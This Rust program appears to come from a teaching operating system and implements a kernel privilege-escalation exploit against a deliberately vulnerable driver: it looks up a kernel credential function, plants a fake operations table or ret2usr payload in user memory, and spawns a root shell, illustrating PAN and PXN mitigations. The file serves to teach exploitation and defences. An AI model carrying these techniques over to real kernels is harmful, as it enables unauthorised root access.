//! `escalate`: a privilege escalation through the teaching-only vulnerable driver
//! (`vulnerable=ops`), the way a real kernel exploit is built.
//!
//! 0. Check that the driver is there: `vulnerable_ops(0)` runs the driver's own table.
//! 1. Find the target: the address of the kernel's `commit_root_credentials` (the analogue of
//!    Linux's `commit_creds(prepare_kernel_cred(NULL))`), from the kernel's symbol table as a
//!    Linux exploit reads `/proc/kallsyms`. With `kptr_restrict` hiding kernel addresses the
//!    answer is 0 and the exploit gives up.
//! 2. Build a fake operations table in its own memory: handler = the target, data = 0.
//! 3. Hand the table's user address to `vulnerable_ops`, which follows it without
//!    `copy_from_user` and calls the handler in kernel mode.
//! 4. If the uid is now 0, replace itself with a root shell running `status`.
//!
//! `escalate --ret2usr` builds the older attack instead: the handler is a function in this
//! program's own code, which calls the target (its address in data) from kernel mode. PXN
//! stops that one even without PAN.
//!
//! Exit status: 1 when the attack did not make it root; with PAN on the process does not
//! exit at all: the kernel's oops kills it inside step 3.

#![no_std]
#![no_main]

use core::fmt::Write;
use swpan_user::abi::vulnerable::Operations;
use swpan_user::{Console, println, syscall, users};

swpan_user::main!(run);

/// The kernel function the exploit calls.
const TARGET: &str = "commit_root_credentials";

/// Exit status of a bad command line.
const USAGE: i32 = 2;

fn run(_: &str) -> i32 {
    let mut arguments = swpan_user::arguments().skip(1);
    let ret2usr = match (arguments.next(), arguments.next()) {
        (None, _) => false,
        (Some("--ret2usr"), None) => true,
        _ => {
            println!("usage: escalate [--ret2usr]");
            return USAGE;
        }
    };
    print_ids("before");

    // SAFETY: table 0 is the driver's own, whose handler only returns a constant.
    match unsafe { syscall::vulnerable_ops(0) } {
        Ok(value) => {
            println!("escalate: vulnerable_ops(0): the driver's own table answers {value:#x}")
        }
        Err(errno) => {
            println!("escalate: vulnerable_ops: {errno} (boot with vulnerable=ops)");
            return 1;
        }
    }
    let target = match syscall::kallsyms_lookup(TARGET) {
        Ok(0) => {
            println!(
                "escalate: kallsyms: {TARGET} at 0x00000000: kptr_restrict hides kernel \
                 addresses (boot with kptr_restrict=0)"
            );
            return 1;
        }
        Ok(address) => address,
        Err(errno) => {
            println!("escalate: kallsyms: {TARGET}: {errno}");
            return 1;
        }
    };
    println!("escalate: kallsyms: {TARGET} at {target:#010x}");

    let table = if ret2usr {
        Operations { handler: payload as *const () as usize as u32, data: target }
    } else {
        Operations { handler: target, data: 0 }
    };
    let address = core::ptr::from_ref(&table).addr() as u32;
    println!(
        "escalate: fake operations table at {address:#010x} (user memory): handler {:#010x}, \
         data {:#x}",
        table.handler, table.data
    );
    // SAFETY: the handler is the kernel function this program means the kernel to run (or,
    // with --ret2usr, this program's payload, which calls it); the table lives on this stack
    // across the call.
    let result = unsafe { syscall::vulnerable_ops(address) };
    // The kernel read the table through a pointer the compiler cannot see: keep it alive.
    core::hint::black_box(&table);
    if let Err(errno) = result {
        println!("escalate: vulnerable_ops: {errno}");
        return 1;
    }
    print_ids("after");
    if syscall::getuid() != 0 {
        println!("escalate: still not root: the attack failed");
        return 1;
    }
    println!("escalate: root: running /bin/sh -c status");
    let errno = syscall::execve("/bin/sh", &["sh", "-c", "status"], &[]);
    println!("escalate: execve /bin/sh: {errno}");
    1
}

/// `escalate: before: uid=1000(student) gid=1000(student)`, as `id` prints them.
fn print_ids(when: &str) {
    let (uid, gid) = (syscall::getuid(), syscall::getgid());
    let mut console = Console::new();
    let _ = write!(console, "escalate: {when}: ");
    let _ = users::write_id(&mut console, "uid", uid, users::by_uid(uid).map(|user| user.name));
    let _ = console.write_str(" ");
    let _ = users::write_id(&mut console, "gid", gid, users::group_name(gid));
    let _ = console.write_str("\n");
    console.flush();
}

/// The ret2usr payload: runs in kernel mode if the kernel calls it (PAN and PXN both off) and
/// calls the kernel function at `kernel_function` the way the kernel would have.
extern "C" fn payload(kernel_function: u32) -> u32 {
    // SAFETY: only the kernel calls this, with the address of `commit_root_credentials`, a
    // kernel function of one word returning one word; in user mode the call would fault.
    let target: extern "C" fn(u32) -> u32 =
        unsafe { core::mem::transmute(kernel_function as usize) };
    target(0)
}
